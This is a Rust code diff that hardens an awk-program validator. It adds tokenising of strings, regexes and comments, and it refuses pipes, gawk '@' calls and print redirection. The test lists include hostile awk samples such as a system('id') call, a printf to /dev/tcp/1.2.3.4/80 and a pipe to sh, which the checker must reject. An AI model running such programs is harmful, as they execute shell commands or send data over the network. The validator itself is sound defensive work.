@@ -4,6 +4,14 @@
 //! harmless programs.
 
 /// Check an awk program. `Err` carries the reason.
+///
+/// The program is tokenised the way awk reads it: string literals, regex literals (a `/` where
+/// an operand is expected starts a regex, elsewhere it divides) and comments are skipped, so a
+/// `|` inside `/a|b/` or an `@` inside `"user@host"` is text. Outside them, `|` (a pipe to or
+/// from a command) and `@` (gawk directives, indirect calls) are refused, and `>`/`>>` are
+/// refused only where awk reads them as output redirection: in a `print`/`printf` statement
+/// at the statement's own parenthesis depth (`print $1 > "f"`), never in a comparison
+/// (`$3 > 100`, `if (n > 0) print n`, `print (a > b)`).
 pub fn check_awk(program: &str) -> Result<(), String> {
     const DENIED_WORDS: &[(&str, &str)] = &[
         ("system", "awk `system()` runs a shell command"),
@@ -19,49 +27,123 @@ pub fn check_awk(program: &str) -> Result<(), String> {
             "changing awk `ARGC` reads files the policy did not check",
         ),
     ];
-    let bytes = program.as_bytes();
-    let mut seen_print = false;
+    /// Words after which a `/` starts a regex rather than dividing.
+    const REGEX_AFTER: &[&str] = &["print", "printf", "return", "case", "in", "do", "else"];
+    let b: Vec<char> = program.chars().collect();
+    let n = b.len();
+    // Was the last significant token an operand (so `/` divides)?
+    let mut operand = false;
+    let mut depth = 0usize;
+    // Parenthesis depth of the `print`/`printf` statement being read.
+    let mut print_at: Option<usize> = None;
     let mut i = 0usize;
-    for _ in 0..bytes.len() + 1 {
-        if i >= bytes.len() {
-            break;
-        }
-        let c = bytes[i];
-        if c.is_ascii_alphabetic() || c == b'_' {
+    while i < n {
+        let c = b[i];
+        if c.is_ascii_alphabetic() || c == '_' {
             let start = i;
-            while i < bytes.len() && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'_') {
+            while i < n && (b[i].is_ascii_alphanumeric() || b[i] == '_') {
                 i += 1;
             }
-            let word = &program[start..i];
+            let word: String = b[start..i].iter().collect();
             if let Some((_, why)) = DENIED_WORDS.iter().find(|(w, _)| *w == word) {
                 return Err((*why).to_string());
             }
             if word == "print" || word == "printf" {
-                seen_print = true;
+                print_at = Some(depth);
             }
+            operand = !REGEX_AFTER.contains(&word.as_str());
+            continue;
+        }
+        if c.is_ascii_digit() || (c == '.' && b.get(i + 1).is_some_and(|d| d.is_ascii_digit())) {
+            while i < n && (b[i].is_ascii_alphanumeric() || b[i] == '.') {
+                i += 1;
+            }
+            operand = true;
             continue;
         }
         match c {
-            b'|' => {
-                if bytes.get(i + 1) == Some(&b'|') {
+            '"' => {
+                i = skip_quoted(&b, i + 1, '"')
+                    .ok_or("awk string is not terminated (missing `\"`)")?;
+                operand = true;
+                continue;
+            }
+            '/' if !operand => {
+                i = skip_quoted(&b, i + 1, '/')
+                    .ok_or("awk regex is not terminated (missing `/`)")?;
+                operand = true;
+                continue;
+            }
+            '#' => {
+                while i < n && b[i] != '\n' {
+                    i += 1;
+                }
+                continue;
+            }
+            '|' => {
+                if b.get(i + 1) == Some(&'|') {
                     i += 2;
+                    operand = false;
                     continue;
                 }
                 return Err("awk pipes (`|`) run shell commands".into());
             }
-            b'>' if seen_print => {
-                return Err(
-                    "awk output redirection (`print > file`) writes files; a `>` after a print \
-                     statement is refused"
-                        .into(),
-                );
+            '>' => {
+                if b.get(i + 1) == Some(&'=') {
+                    i += 2;
+                    operand = false;
+                    continue;
+                }
+                if print_at == Some(depth) {
+                    return Err(
+                        "awk output redirection (`print > file`) writes files; to compare \
+                         inside print, put the comparison in parentheses"
+                            .into(),
+                    );
+                }
             }
-            b'@' => return Err("gawk `@` directives and indirect calls are not allowed".into()),
+            '@' => return Err("gawk `@` directives and indirect calls are not allowed".into()),
+            '(' | '[' => depth += 1,
+            ')' | ']' => depth = depth.saturating_sub(1),
+            // A line continues after `\`, `,`, `&&` and `||`.
+            '\\' if b.get(i + 1) == Some(&'\n') => i += 1,
+            '\n' if !matches!(last_significant(&b[..i]), Some(',' | '&' | '|' | '\\')) => {
+                print_at = None
+            }
+            ';' | '{' | '}' => print_at = None,
             _ => {}
         }
+        operand = match c {
+            ')' | ']' | '$' => true,
+            // `x++ / 2`: increments keep the operand.
+            '+' | '-' if b.get(i + 1) == Some(&c) => {
+                i += 1;
+                operand
+            }
+            c if c.is_whitespace() => operand,
+            _ => false,
+        };
         i += 1;
     }
     Ok(())
+}
+
+fn last_significant(b: &[char]) -> Option<char> {
+    b.iter().rev().copied().find(|c| *c != ' ' && *c != '\t')
+}
+
+/// Skip a string or regex literal body starting at `i` (after the opening quote); returns the
+/// index after the closing `end`, or `None` when it is not terminated on its line.
+fn skip_quoted(b: &[char], mut i: usize, end: char) -> Option<usize> {
+    while i < b.len() {
+        match b[i] {
+            '\\' => i += 2,
+            '\n' => return None,
+            c if c == end => return Some(i + 1),
+            _ => i += 1,
+        }
+    }
+    None
 }
 
 /// Check a sed script: only addresses and the printing/deleting/quitting commands and `s`/`y`
@@ -241,8 +323,20 @@ mod tests {
             "/error/ {c++} END {print c+0}",
             "{ s += $5 } END { if (s > 0) print s }",
             "$1 || $2",
+            "/GET|POST/ {print $7}",
+            "$0 ~ \"a|b\" {n++} END {print n}",
+            "{ if ($3 > 100) print $1 }",
+            "{ print ($3 > 100) }",
+            "{ print $1; if (NR > 5) exit }",
+            "$9 >= 500 { print $7 }",
+            "{ n = $3 / 2; print n }",
+            "{ print \"mail: user@host\" }",
+            "NR > 1 { a[$1] += $2 } END { for (k in a) print k, a[k] }",
+            "{ x = NR / 2 } /err/ { print x }",
+            "# a comment with | and >\n{print}",
+            "{ printf(\"%d\\n\", $2 > 0) }",
         ] {
-            assert!(check_awk(ok).is_ok(), "{ok}");
+            assert!(check_awk(ok).is_ok(), "{ok}: {:?}", check_awk(ok));
         }
         for bad in [
             "BEGIN{system(\"id\")}",
@@ -257,6 +351,16 @@ mod tests {
             "BEGIN{f=\"system\"; @f(\"id\")}",
             "{printf \"%s\", $0 > \"/dev/tcp/1.2.3.4/80\"}",
             "{print |& \"cat\"}",
+            "{ print $1 > $2 }",
+            "{ if (x) print $0 > \"/tmp/y\" }",
+            "{ print (\"a\") > \"/tmp/y\" }",
+            "{ printf \"%s\", $1 >> \"/tmp/y\" }",
+            "/x|y/ { print | \"sh\" }",
+            "{ print \"a\" \"b\" > \"/tmp/y\" }",
+            "BEGIN { \"unterminated }",
+            "{ print 1 / 2 > \"/tmp/x\" }",
+            "{ print $1,\n $2 > \"/tmp/x\" }",
+            "{ print $1 \\\n > \"/tmp/x\" }",
         ] {
             assert!(check_awk(bad).is_err(), "{bad}");
         }
